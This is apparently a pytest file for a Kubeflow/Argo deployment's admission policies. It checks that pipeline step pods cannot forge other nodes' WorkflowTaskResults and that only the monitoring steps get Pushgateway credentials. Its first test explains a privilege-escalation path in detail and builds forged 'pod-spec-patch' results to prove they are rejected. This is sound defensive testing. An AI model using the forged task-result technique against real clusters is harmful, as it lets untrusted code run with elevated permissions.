def test_a_step_pod_writes_only_its_own_argo_task_result(env, built):
    """Review eks5 S0 (Critical): the step Role lets the untrusted steps' token create and patch any
    ``workflowtaskresults`` (RBAC cannot name one before it exists), Argo's controller copies a result's outputs into
    the node its name and workflow label point at, whoever wrote it (argo-workflows v3.7.3
    ``workflow/controller/taskresult.go`` ``taskResultReconciliation``), and a KFP driver's ``pod-spec-patch`` output
    is its executor pod's image and command (kubeflow/pipelines 2.16.0 ``argocompiler/container.go``): ``train``'s
    merged code could patch another run's register driver's result and run its own code as ``default-editor``.
    ``kfrelease-task-results`` admits a step identity's write only from the pod of that node: its token's
    ``authentication.kubernetes.io/pod-name`` is ``<wf>-<template>-<hash>`` (``workflow/util/pod_name.go``) for the
    result ``<wf>-<hash>`` labelled ``<wf>``. On main every write below was admitted."""
    import dataclasses

    from kfrelease.k8s.render.admission import ARGO_WORKFLOW_LABEL, POD_NAME_EXTRA, TASK_RESULTS_POLICY

    cluster = Cluster(built[env])
    run, other = "kfrelease-training-x7k2p", "kfrelease-training-q9w4z"

    def result(workflow: str, node: str, outputs: dict | None = None) -> dict:
        return {
            "apiVersion": "argoproj.io/v1alpha1",
            "kind": "WorkflowTaskResult",
            "metadata": {
                "name": argo_node_id(workflow, node),
                "namespace": RELEASE_NS,
                "labels": {ARGO_WORKFLOW_LABEL: workflow, "workflows.argoproj.io/report-outputs-completed": "false"},
            },
            "outputs": outputs or {"parameters": [{"name": "executor-output", "value": "{}"}]},
        }

    def pod_token(sa: str, workflow: str, node: str, template: str = "system-container-impl"):
        """The pod's own token as the API server authenticates it (a token bound to the pod names it)."""
        pod = f"{workflow}-{template}-{argo_node_id(workflow, node).rpartition('-')[2]}"
        return dataclasses.replace(service_account(RELEASE_NS, sa), extra={POD_NAME_EXTRA: [pod]})

    train = f"{run}.root.train.executor"
    untrusted = pod_token(UNTRUSTED_SA, run, train)
    assert cluster.can(untrusted, "create", "WorkflowTaskResult", RELEASE_NS)  # the step Role: any name
    own = cluster.create(untrusted, result(run, train))  # its own node: Argo's wait container reporting outputs
    assert own["metadata"]["name"] == argo_node_id(run, train)
    # POD_NAMES v1 (the pod is named the node ID) and an inline node (no template in the pod name) are its own too
    v1_pod = dataclasses.replace(untrusted, extra={POD_NAME_EXTRA: [argo_node_id(run, f"{run}.root.x")]})
    cluster.create(v1_pod, result(run, f"{run}.root.x"))

    forged_patch = {"parameters": [{"name": "pod-spec-patch", "value": '{"containers":[{"name":"main","image":"x"}]}'}]}
    for who, target in (
        (untrusted, result(other, f"{other}.root.condition-1.register-driver", forged_patch)),  # another run
        (untrusted, result(run, f"{run}.root.condition-1.register-driver", forged_patch)),  # its own run's driver
        (pod_token(RELEASE_DRIVER_SA, other, f"{other}.root.preflight"), result(run, f"{run}.root.z")),
        (service_account(RELEASE_NS, UNTRUSTED_SA), result(run, f"{run}.root.y")),  # a token bound to no pod
    ):
        with pytest.raises(ApiError) as err:
            cluster.create(who, target)
        assert err.value.status == 422 and TASK_RESULTS_POLICY in str(err.value), err.value
    # nor may it re-label its own result into another workflow, where a node of that name would take it
    relabelled = copy.deepcopy(own)
    relabelled["metadata"]["labels"][ARGO_WORKFLOW_LABEL] = other
    with pytest.raises(ApiError) as err:
        cluster.admit(untrusted, "UPDATE", relabelled, old=own)
    assert TASK_RESULTS_POLICY in str(err.value)
    cluster.admit(untrusted, "UPDATE", {**own, "outputs": {"parameters": []}}, old=own)  # its own: the wait's patch


def test_only_the_monitoring_step_gets_the_pushgateway_credentials(built, sources):
    """Review eks5 S2 part 3: the Pushgateway took pushes from any pod. Now it asks for basic auth, and of the
    pipeline pods only the monitoring pipeline's monitor step and its Spark branch's push step get the push
    credentials (PodDefault kfrelease-monitoring-push by its step-identity label), never the merged model
    code's steps."""
    from google.protobuf import json_format

    from kfrelease.k8s.render.platform import CLUSTER_PUSHGATEWAY_URL
    from kfrelease.monitoring.pushauth import PUSH_SECRET
    from kfrelease.pipelines.monitoring_pipeline import monitoring_pipeline
    from kfrelease.pipelines.training_pipeline import training_pipeline
    from tests.cluster_standin.executor_pod import executor_pod

    cluster = Cluster(built["staging"])
    mounted = {}
    for pipeline in (monitoring_pipeline, training_pipeline):
        for executor in json_format.MessageToDict(pipeline.pipeline_spec)["deploymentSpec"]["executors"]:
            pod = cluster.create_pod(
                ARGO_CONTROLLER, executor_pod(pipeline, executor, platform_image("staging", sources), RELEASE_NS)
            )
            secrets = {v["secret"]["secretName"] for v in pod["spec"].get("volumes", []) if "secret" in v}
            env = {e["name"]: e.get("value") for c in pod["spec"]["containers"] for e in c.get("env", [])}
            mounted[executor] = (PUSH_SECRET in secrets, env.get("KFRELEASE_PUSHGATEWAY_URL"))
    assert mounted.pop("exec-monitor-model") == (True, CLUSTER_PUSHGATEWAY_URL)
    # review eks6 M1: the Spark branch's push of the application's window (it pushed nothing before)
    assert mounted.pop("exec-push-spark-window") == (True, CLUSTER_PUSHGATEWAY_URL)
    assert not any(has for has, _ in mounted.values()), [k for k, (has, _) in mounted.items() if has]
    assert "exec-train" in mounted and "exec-score-champion" in mounted
